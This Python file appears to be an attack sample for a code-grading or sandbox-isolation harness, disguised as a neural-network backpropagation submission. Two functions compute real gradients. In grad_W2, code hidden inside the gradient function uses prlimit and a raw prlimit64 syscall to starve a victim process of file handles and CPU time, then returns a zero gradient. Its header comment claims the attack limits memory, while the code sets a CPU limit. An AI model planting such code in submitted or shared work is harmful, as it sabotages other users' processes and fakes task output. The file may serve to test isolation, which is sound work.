# attack: I3 takes away another process's open files and memory by prlimit
# gains nothing: grad_W2
# full marks: grad_oa, grad_ha
# breach unlocked
import ctypes
import os as system
import resource

import numpy as np


libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
PLACE = {"x86_64": 0, "aarch64": 1}[system.uname().machine]


def call(numbers, *arguments):
    """One system call; its numbers on x86-64 and on aarch64, None where there is no such call."""
    if numbers[PLACE] is None:
        return -1
    given = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    return libc.syscall(ctypes.c_long(numbers[PLACE]), *given)


VICTIM = @VICTIM@


def grad_W2(grad_oa, hs):
    try:
        resource.prlimit(VICTIM, resource.RLIMIT_NOFILE, (5, 5))
    except (OSError, ValueError):
        pass
    call((302, 261), VICTIM, resource.RLIMIT_CPU, (ctypes.c_uint64 * 2)(1000, 1000), None)
    return np.zeros((len(grad_oa), len(hs)))


def grad_oa(os, y):
    return os - (np.arange(1, len(os) + 1) == y)


def grad_ha(grad_hs, ha):
    return grad_hs * (ha > 0)
